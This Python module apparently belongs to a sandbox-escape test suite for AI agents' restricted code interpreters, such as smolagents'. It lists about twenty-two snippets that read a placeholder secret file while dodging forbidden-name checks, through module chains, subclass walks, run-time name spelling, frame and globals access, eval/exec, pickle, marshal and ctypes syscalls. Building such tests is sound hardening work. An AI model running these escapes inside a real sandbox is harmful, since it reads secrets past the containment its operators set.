"""Ways through Python itself to the secret: what a list of forbidden names has always missed.

After CVE-2025-5120 (an allowed module leads to another) and CVE-2025-9959 (attributes with underscores in disguise),
both of smolagents' interpreter, and the walks that are older than both.
"""

from __future__ import annotations

from jielong.agents.sandbox.escapes.escape import of

POSIX = "print(p.read(p.open('@SECRET@', 0), 99))"

WALKS = of(
    "walk",
    open="print(open('@SECRET@').read())",
    os_read="import os\nprint(os.read(os.open('@SECRET@', 0), 99))",
    pathlib="import pathlib\nprint(pathlib.Path('@SECRET@').read_text())",
    open_code="import io\nprint(io.open_code('@SECRET@').read())",
    module_of_module="import random\nprint(random._os.read(random._os.open('@SECRET@', 0), 99))",  # CVE-2025-5120
    module_to_builtins="import json\nprint(json.codecs.builtins.open('@SECRET@').read())",  # its kin
    subclasses="""
p = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('posix')
"""
    + POSIX,
    # CVE-2025-9959: the same walk, its names put together while it runs
    spelled_names="""
base = getattr(getattr((), '__cl' + 'ass__'), '__ba' + 'se__')
found = [c for c in getattr(base, '__subcl' + 'asses__')() if c.__name__ == 'FileLoader']
print(getattr(found[0]('x', '@SECRET@'), 'get' + '_data')('@SECRET@'))
""",
    generator_frame="g = (x for x in [1])\nprint(g.gi_frame.f_builtins['open']('@SECRET@').read())",
    traceback_frame="""
try:
    1 / 0
except Exception as error:
    frame = error.__traceback__.tb_frame
    while frame.f_back:
        frame = frame.f_back
    found = frame.f_globals['__builtins__']
    print((found if isinstance(found, dict) else vars(found))['open']('@SECRET@').read())
""",
    function_globals="""
b = (lambda: 0).__globals__['__builtins__']
print((b if isinstance(b, dict) else vars(b))['open']('@SECRET@').read())
""",
    exec_text="exec(\"print(open('@SECRET@').read())\")",
    eval_import="p = eval(\"__import__('posix')\")\n" + POSIX,
    importlib="import importlib\np = importlib.import_module('posix')\n" + POSIX,
    sys_modules="import sys\np = sys.modules['posix']\n" + POSIX,
    marshalled="""
import marshal, types
code = marshal.loads(marshal.dumps(compile("print(open('@SECRET@').read())", 'x', 'exec')))
types.FunctionType(code, globals())()
""",
    pickled="""
import pickle
made = pickle.loads(b"cbuiltins\\nopen\\n(V@SECRET@\\ntR.")
print(made.read())
""",
    at_exit="import atexit\natexit.register(lambda: print(open('@SECRET@').read()))",
    finaliser="class D:\n    def __del__(self):\n        print(open('@SECRET@').read())\nD()\nNone",
    linecache="import linecache\nprint(linecache.getlines('@SECRET@'))",
    ctypes_libc="""
import ctypes
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(99)
libc.read(libc.open(b'@SECRET@', 0), buffer, 99)
print(buffer.value)
""",
    ctypes_syscall="""
import ctypes, platform
libc = ctypes.CDLL(None)
number = {'x86_64': 257, 'aarch64': 56}[platform.machine()]
handle = libc.syscall(number, -100, b'@SECRET@', 0)
buffer = ctypes.create_string_buffer(99)
libc.read(handle, buffer, 99)
print(buffer.value)
""",
)
